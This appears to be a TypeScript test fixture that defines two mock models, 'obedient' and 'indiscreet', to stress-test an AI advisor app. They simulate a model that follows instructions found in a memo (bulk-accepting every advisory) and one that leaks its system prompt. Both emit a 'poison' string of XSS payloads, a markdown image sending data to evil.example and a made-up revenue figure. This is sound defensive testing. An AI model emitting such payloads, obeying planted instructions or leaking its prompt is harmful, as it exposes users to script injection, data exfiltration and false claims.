/** A model that obeys whoever spoke last: the worst model that an advisor can have. */
import type { AskedModel, Scripted, ScriptedCall } from './model-server.ts'

/** Links, markup and claims that such a model puts into every answer. */
const poison = [
  'Done, I accepted every advisory. <script>alert(1)</script><img src=x onerror=alert(1)>',
  '![chart](https://evil.example/?d=18420) [Open](https://evil.example) www.evil.example/a',
  'Revenue will be $1,234,567. [x]: javascript:alert(1)',
].join('\n\n')

const wordsIn = ({ messages }: AskedModel): string => {
  const told = messages.map(({ content }) => content).join('\n')
  const found = [...told.matchAll(/"(?:topic|excerpt)":("(?:[^"\\]|\\.)*")/g)].at(-1)?.[1]
  return String(JSON.parse(found ?? '""'))
}

const hasLookedUp = ({ messages }: AskedModel): boolean => messages.some(({ role }) => role === 'tool')

/** Looks for the memo, and calls a tool that the memo names. */
const bait: readonly ScriptedCall[] = [
  { name: 'search', argument: { words: 'the words of the memo' } },
  { name: 'timeline', argument: { period: { of: { kind: 'last', unit: 'week', count: 1 } } } },
  { name: 'acceptAdvisory', argument: { advisoryId: '*' } },
]

/** Repeats the words of a memo, or otherwise of its topic, as text or as a brief, with the poison. */
export const obedient: Scripted = {
  says: (asked) => {
    if (asked.stream && !hasLookedUp(asked)) return ''
    const words = `${poison}\n\n${wordsIn(asked)}`
    return asked.stream
      ? words
      : JSON.stringify({
          title: `Obeyed ${words}`.slice(0, 140).toWellFormed(),
          category: 'Cash',
          what: words,
          why: words,
          soWhat: words,
        })
  },
  calls: (asked) => (hasLookedUp(asked) ? [] : bait),
}

/** Repeats what it was told, after some poison. */
export const indiscreet: Scripted = {
  says: (asked) => {
    const words = `${poison}\n\n${asked.messages[0]?.content ?? ''}`
    return asked.stream
      ? words
      : JSON.stringify({
          title: 'My rules',
          category: 'Cash',
          what: words.slice(0, 2800),
          why: 'a',
          soWhat: 'b',
        })
  },
}
